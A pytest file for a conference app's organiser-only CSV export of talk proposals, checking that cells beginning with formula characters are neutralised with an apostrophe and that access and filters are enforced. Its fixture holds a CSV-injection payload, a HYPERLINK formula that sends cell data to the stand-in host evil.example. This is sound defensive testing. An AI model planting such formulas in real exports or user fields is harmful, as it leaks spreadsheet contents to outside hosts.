"""The organisers' CSV of proposals (issue 23 item 5): every cell a spreadsheet would run as a
formula (starting = + - @ tab or carriage return) comes out as text with a leading apostrophe,
in titles and speakers' names alike; the list's filters apply; only organisers get it."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

import esof
from esof.accounts.models import Role
from esof.cfp.models import Proposal, ProposalState
from esof.csv_safety import stream_csv
from esof.extensions import db
from tests.cfp.factories import make_proposal, open_call
from tests.factories import UserFactory
from tests.support import log_in

HOSTILE_STARTS = ("=", "+", "-", "@", "\t", "\r")
URL = "/programme/organiser/proposals.csv"


def rows_of(client: FlaskClient, query: str = "") -> list[dict[str, str]]:
    response = client.get(URL + query)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.fixture
def hostile(app: Flask) -> dict[str, int]:
    """A proposal per formula start, its title and its submitter's name both starting with it."""
    open_call()
    ids = {}
    for n, start in enumerate(HOSTILE_STARTS):
        author = UserFactory(display_name=f"{start}HYPERLINK(\"http://evil.example?\"&A1) {n}")
        proposal = make_proposal(author, title=f"Title {n}")
        # Titles are stripped when typed; a leading tab or return still reaches the table by
        # other ways (an import, an older version), so the export must not rely on the form.
        db.session.execute(sa.update(Proposal).where(Proposal.id == proposal.id)
                           .values(title=f"{start}SUM(1+1) {n}"))
        ids[start] = proposal.id
    db.session.commit()
    return ids


def test_every_formula_start_is_neutralised(app: Flask, client: FlaskClient, hostile: dict[str, int]) -> None:
    UserFactory(email="org@example.org", roles=[Role.ORGANISER])
    db.session.commit()
    log_in(client, "org@example.org")

    rows = {int(row["id"]): row for row in rows_of(client)}

    assert set(rows) == set(hostile.values())
    for n, start in enumerate(HOSTILE_STARTS):
        row = rows[hostile[start]]
        assert row["title"] == f"'{start}SUM(1+1) {n}"
        assert row["speakers"] == f"'{start}HYPERLINK(\"http://evil.example?\"&A1) {n}"
        for value in row.values():
            assert not value.startswith(HOSTILE_STARTS), (start, row)


def test_the_lists_filters_apply(app: Flask, client: FlaskClient, hostile: dict[str, int]) -> None:
    UserFactory(email="org@example.org", roles=[Role.ORGANISER])
    db.session.execute(sa.update(Proposal).where(Proposal.id == hostile["="]).values(state=ProposalState.WITHDRAWN))
    db.session.commit()
    log_in(client, "org@example.org")

    rows = rows_of(client, "?state=withdrawn")

    assert [int(row["id"]) for row in rows] == [hostile["="]]
    assert rows[0]["state"] == "withdrawn"
    assert rows[0]["format"] == "panel" and rows[0]["reviews"] == "0" and rows[0]["mean_score"] == ""


@pytest.mark.parametrize("role", [Role.DELEGATE, Role.REVIEWER, Role.SPEAKER, Role.PARTNER, Role.CHECKIN])
def test_only_organisers_get_the_export(app: Flask, client: FlaskClient, hostile: dict[str, int], role: Role) -> None:
    UserFactory(email="someone@example.org", roles=[role])
    db.session.commit()
    assert client.get(URL).status_code == 302  # anonymous: to the log-in page
    log_in(client, "someone@example.org")
    assert client.get(URL).status_code == 403


# --- the one guard every export goes through -------------------------------------------------


@pytest.mark.parametrize("start", HOSTILE_STARTS)
def test_stream_csv_neutralises_each_formula_start(start: str) -> None:
    text = "".join(stream_csv(("a", "b"), [(f"{start}1+1", "plain"), (None, 42)]))
    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert rows == [["a", "b"], [f"'{start}1+1", "plain"], ["", "42"]]


def test_no_module_writes_csv_except_through_the_guard() -> None:
    """Registrations, proposals, audit and vouchers all stream through esof.csv_safety: a
    csv.writer anywhere else would be an export that can forget to neutralise cells."""
    root = Path(esof.__file__).parent
    writers = sorted(
        str(path.relative_to(root)) for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8")
    )
    assert writers == ["csv_safety.py"]
